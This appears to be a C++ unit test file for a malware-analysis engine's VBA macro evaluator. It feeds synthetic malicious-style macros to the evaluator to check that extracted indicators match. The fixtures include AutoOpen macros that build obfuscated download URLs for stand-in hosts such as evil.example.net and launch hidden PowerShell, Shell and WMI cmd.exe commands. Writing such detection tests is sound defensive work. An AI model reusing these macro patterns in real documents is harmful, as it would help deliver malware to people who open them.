// The VBA evaluator compiles each expression the first time it runs (vba_eval.cpp, "compiled expressions"). These
// tests run macros both ways, compiled and parsed at every run (detail::evaluate_vba_parsed, the evaluator as it
// was), and require the same IOCs, decoded strings, statement count, work and limits hit: the work is where every
// cut falls, so it has to match unit for unit.
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "analysis/candidates.hpp"
#include "analysis/iocs.hpp"

namespace {

namespace analysis = mamori::analysis;

std::string vb(std::initializer_list<const char*> lines) {
  std::string s;
  for (const char* l : lines) {
    s += l;
    s += "\r\n";
  }
  return s;
}

std::string describe(const analysis::Evaluation& e) {
  std::string s = "statements " + std::to_string(e.statements) + " work " + std::to_string(e.work) + " limits " +
                  std::to_string(e.limits_hit) + "\n";
  for (const auto& i : e.iocs) s += "ioc " + i.type + " " + i.value + " @" + i.where + "\n";
  for (const auto& d : e.strings) s += "str " + d.value + " @" + d.where + "\n";
  return s;
}

// Both ways; returns the compiled result after checking it equals the parsed one.
analysis::Evaluation both(const std::string& src, const analysis::DocumentStrings& extra = {}) {
  const auto compiled = analysis::evaluate_vba(src, "Module1", extra);
  const auto parsed = analysis::detail::evaluate_vba_parsed(src, "Module1", extra);
  EXPECT_EQ(describe(compiled), describe(parsed)) << src;
  return compiled;
}

bool has_string(const analysis::Evaluation& e, const std::string& v) {
  for (const auto& d : e.strings)
    if (d.value == v) return true;
  return false;
}

TEST(VbaEvalCompiled, OperatorsUnaryAndPrecedenceAsTheParse) {
  const auto e = both(vb({
      "Sub AutoOpen()",
      "  a = 2 ^ 3 ^ 2 & \"|\" & -2 ^ 2 & \"|\" & 2 ^ -1 ^ 2 & \"|\" & Not 0 And 5 Or 8 & \"|\" & 7 Mod 3 * 2",
      "  b = \"x\" + \"y\" + 1 & (3 + 4) * 2 & - - 3 & + 4 & (1 < 2) & (\"a\" = \"a\") & 17 \\ 5 & 1 / 0 & 10 - 3 - 2",
      "  c = a & \"::\" & b & \"::\" & (((((((((1 + 2)))))))))",
      "End Sub",
  }));
  EXPECT_GT(e.statements, 0u);
  EXPECT_FALSE(e.strings.empty());
}

TEST(VbaEvalCompiled, NamesCallsMembersAndIndexesAsTheParse) {
  analysis::DocumentStrings extra;
  extra.forms.push_back({"UserForm1", "Label1", "Caption", "http://forms.example.com/a.exe"});
  extra.forms.push_back({"", "Payload", "Variable", "cmd /c calc"});
  const auto e = both(vb({
      "Const K = \"]z[\"",
      "Function Dec(s, Optional t = \"!\" & \"?\", Optional u)",
      "  Dec = Replace(s, K, \"\") & t & u",
      "End Function",
      "Function Pick(ParamArray xs())",
      "  Pick = xs(1) & Join(xs, \"-\")",
      "End Function",
      "Sub AutoOpen()",
      "  Dim arr(3), p As String",
      "  arr(0) = \"ht\": arr(1) = \"tp://\": arr(2) = \"evil.example.net/x\"",
      "  u = arr(0) & arr(1) & arr(2) & Dec(\"]z[.]z[e]z[xe\", , \"!\")",
      "  v = Split(\"a,b,http://s.example.org/p.ps1\", \",\")(2) & UCase(Mid(\"abcdef\", 2, 3))",
      "  w = VBA.StrReverse(\"exe.x/moc.elpmaxe.r//:ptth\") & Strings.Left(\"zzz\", 2) & Pick(\"q\", \"r\", \"s\")",
      "  x = UserForm1.Label1.Caption & ActiveDocument.Variables(\"Payload\").Value & UserForm1.Label1",
      "  With UserForm1",
      "    y = .Label1.Caption & .Missing",
      "  End With",
      "  z = CreateObject(\"WScript.Shell\").Run(\"powershell -w hidden\" & Chr(32) & Chr(65 + 1), 0)",
      "  n = Len(u) + UBound(arr) + Asc(\"A\") + CInt(\"12\") + Val(\"x\") + IIf(1 > 0, 5, 6) + Choose(2, 7, 8)",
      "  q = Array(1, \"two\", 3)(1) & Environ(\"temp\") & Hex(255) & String(3, \"k\") & Space(2) & Trim(\"  t  \")",
      "  Shell u & v & w, vbHide",
      "  Call Dec(x & y)",
      "  If Len(u) > 3 Then s1 = u & \"/if\" Else s1 = \"no\"",
      "  For i = 1 To 3: acc = acc & Chr(64 + i) & arr(i - 1): Next",
      "  For Each el In Split(\"m n o\"): acc2 = acc2 & el & \"/\": Next",
      "  Do While i < 10: i = i + 1: Loop",
      "  Select Case acc",
      "    Case \"x\": r = \"ca\" & \"se\"",
      "  End Select",
      "  res = obj.Method(1)(2).Other(acc, , acc2)",
      "End Sub",
  }), extra);
  EXPECT_TRUE(has_string(e, "http://evil.example.net/x.exe!")) << describe(e);
  EXPECT_FALSE(e.iocs.empty());
}

TEST(VbaEvalCompiled, ExpressionsTheCompilerLeavesToTheParse) {
  std::string deep = "Sub AutoOpen()\r\n  a = ";
  for (int i = 0; i < 80; ++i) deep += "(";
  deep += "\"http://deep.example.com/\"";
  for (int i = 0; i < 80; ++i) deep += ")";
  deep += " & \"x\"\r\n  b = \"after\" & \"wards\" & a\r\nEnd Sub\r\n";
  const auto d = both(deep);
  EXPECT_GT(d.limits_hit, 0u);  // 80 nested parentheses pass max_vba_expr_levels: the parse cuts, as before
  EXPECT_TRUE(has_string(d, "afterwards"));

  std::string chain = "Sub AutoOpen()\r\n  s = \"start\"";
  for (int i = 0; i < 300; ++i) chain += " & \"" + std::to_string(i) + "\"";
  chain += "\r\nEnd Sub\r\n";
  const auto c = both(chain);  // a chain longer than one walk of the left side
  EXPECT_FALSE(c.strings.empty());

  both(vb({
      "Sub AutoOpen()",
      "  a = (1 + 2",
      "  b = Mid(\"abc\", 2",
      "  c = 1 + ) - 2",
      "  d = f(x:=1, , 3) & .Foo & ! & (\"p\").Bar",
      "  e = Chr(72) & Chr(84) & Chr(84) & Chr(80) & \"://broken.example.com\" & (",
      "  ReDim Preserve arr(5): arr(2) = \"v\" & \"w\": g = arr(2) & arr",
      "  Set o = GetObject(\"winmgmts:\").Get(\"Win32_Process\")",
      "  o.Create \"cmd.exe /c \" & a & b, Null, Null, pid",
      "End Sub",
  }));
}

TEST(VbaEvalCompiled, WorkBudgetRunningOutInsideAnExpressionCutsWhereTheParseDoes) {
  // Every pass concatenates a 60,000-byte string a few times over: the 64 Mi work units run out inside one of
  // these expressions, which the compiled evaluation charges in another order, so it is run again parsed.
  const auto e = both(vb({
      "Sub AutoOpen()",
      "  s = String(60000, \"a\")",
      "  For i = 1 To 4000",
      "    t = s & s & s & s & s & \"http://budget.example.com/\" & i",
      "    u = t & t",
      "  Next",
      "  v = \"never\" & \"reached\"",
      "End Sub",
  }));
  EXPECT_GT(e.work, analysis::limits::max_work);
  EXPECT_GT(e.limits_hit, 0u);
  EXPECT_FALSE(has_string(e, "neverreached"));
}

}  // namespace
